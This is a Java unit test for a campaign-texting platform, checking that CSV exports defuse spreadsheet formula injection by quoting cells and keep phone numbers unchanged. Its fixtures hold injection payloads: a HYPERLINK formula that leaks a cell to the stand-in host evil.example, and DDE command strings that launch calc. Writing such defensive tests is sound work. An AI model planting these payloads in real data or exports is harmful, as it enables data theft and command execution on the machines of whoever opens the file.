package dev.p2p.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import dev.p2p.Organization;
import dev.p2p.P2P;
import dev.p2p.action.ActionDraft;
import dev.p2p.action.SenderSettings;
import dev.p2p.assign.Target;
import dev.p2p.contact.NewContact;
import dev.p2p.conversation.Texter;
import dev.p2p.report.Reports;
import dev.p2p.store.memory.InMemoryStore;
import dev.p2p.texter.TexterProfile;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.io.Writer;
import java.util.List;
import java.util.function.BiConsumer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/**
 * Exports are safe to open in a spreadsheet: a cell that would run as a formula gets a single quote
 * in front and is quoted; plain numbers, E.164 phones included, stay as they are; {@code
 * verbatim()} writes every cell as stored for programs.
 */
class ExportFormulaTest {
  private static final String NUMBER = "+13125550100";
  private static final String PHONE = "+12125551000";
  private static final String LINK = "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")";
  private static final String DDE = "+cmd|' /C calc'!A0";

  private final MutableClock clock = MutableClock.at("2026-11-03T15:00:00Z");
  private final FakeGateway fake = FakeGateway.builder().clock(clock).build();
  private final P2P p2p =
      P2P.builder().store(InMemoryStore.create()).clock(clock).gateway("fake", fake).build();
  private final Organization org = p2p.organization("acme");
  private final long actionId;

  ExportFormulaTest() {
    fake.connect(p2p.webhooks()::handle);
    org.texters().upsert(new TexterProfile("ana", "Ana", "Diaz"));
    long list = org.contacts().createList("voters").id();
    org.contacts()
        .add(
            list,
            NewContact.builder(PHONE)
                .firstName(LINK)
                .lastName("@SUM(1+1)*cmd|' /C calc'!A0")
                .field("note", "@ana please call")
                .field("balance", "-5")
                .field("memo", "-2+3+cmd|' /C calc'!A0")
                .build());
    actionId =
        org.actions()
            .create(
                ActionDraft.named("GOTV")
                    .contacts(list)
                    .initial("Hi, will you vote?")
                    .sender(SenderSettings.numbers("fake", List.of(NUMBER))))
            .id();
    org.actions().publish(actionId);
    org.assignments().assign(actionId, Target.texter("ana"));
    Texter ana = org.texter("ana");
    ana.requestBatch(actionId);
    ana.send(ana.nextToSend(actionId).orElseThrow().conversationId());
    fake.replyFrom(PHONE, NUMBER, DDE);
    fake.replyFrom(PHONE, NUMBER, "\r=1+2");
    fake.replyFrom(PHONE, NUMBER, "\t=1+3");
    fake.replyFrom(PHONE, NUMBER, "STOP");
  }

  @AfterEach
  void close() {
    p2p.close();
  }

  @Nested
  @DisplayName("by default")
  class Guarded {
    @Test
    @DisplayName("a contact's name or field that starts a formula is exported as quoted text")
    void contactCells() throws IOException {
      String csv = export((r, out) -> r.exportConversations(actionId, out));
      NamedCsvRecord row = rows(csv).get(0);

      assertThat(row.getField("first_name")).isEqualTo("'" + LINK);
      assertThat(row.getField("last_name")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
      assertThat(row.getField("contact.note")).isEqualTo("'@ana please call");
      assertThat(row.getField("contact.memo")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
      assertThat(csv)
          .contains("\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&A1,\"\"Click\"\")\"");
    }

    @Test
    @DisplayName("plain numbers and E.164 phones stay as they are, unquoted")
    void numbersStay() throws IOException {
      String csv = export((r, out) -> r.exportConversations(actionId, out));
      NamedCsvRecord row = rows(csv).get(0);

      assertThat(row.getField("phone")).isEqualTo(PHONE);
      assertThat(row.getField("sender")).isEqualTo(NUMBER);
      assertThat(row.getField("contact.balance")).isEqualTo("-5");
      assertThat(csv).contains("," + PHONE + ",").doesNotContain("'" + PHONE);
    }

    @Test
    @DisplayName("an inbound body that starts a formula is exported as quoted text")
    void messageBodies() throws IOException {
      List<NamedCsvRecord> rows = rows(export((r, out) -> r.exportMessages(actionId, out)));

      assertThat(rows)
          .extracting(m -> m.getField("body"))
          .contains("'" + DDE, "'\r=1+2", "'\t=1+3");
      assertThat(rows).extracting(m -> m.getField("contact_phone")).containsOnly(PHONE);
    }

    @Test
    @DisplayName("the opt-out export keeps its phones verbatim")
    void optOuts() throws IOException {
      List<NamedCsvRecord> rows = rows(export((r, out) -> r.exportOptOuts(out)));

      assertThat(rows).extracting(o -> o.getField("phone")).containsExactly(PHONE);
    }
  }

  @Test
  @DisplayName("verbatim() writes every cell as stored, for programs that read the files")
  void verbatim() throws IOException {
    String csv = export((r, out) -> r.verbatim().exportConversations(actionId, out));
    NamedCsvRecord row = rows(csv).get(0);
    List<NamedCsvRecord> messages =
        rows(export((r, out) -> r.verbatim().exportMessages(actionId, out)));

    assertThat(row.getField("first_name")).isEqualTo(LINK);
    assertThat(row.getField("contact.note")).isEqualTo("@ana please call");
    assertThat(messages).extracting(m -> m.getField("body")).contains(DDE, "\r=1+2", "\t=1+3");
  }

  private String export(BiConsumer<Reports, Writer> export) {
    StringWriter out = new StringWriter();
    export.accept(org.reports(), out);
    return out.toString();
  }

  private static List<NamedCsvRecord> rows(String csv) throws IOException {
    try (CsvReader<NamedCsvRecord> reader =
        CsvReader.builder().ofNamedCsvRecord(new StringReader(csv))) {
      return reader.stream().toList();
    }
  }
}
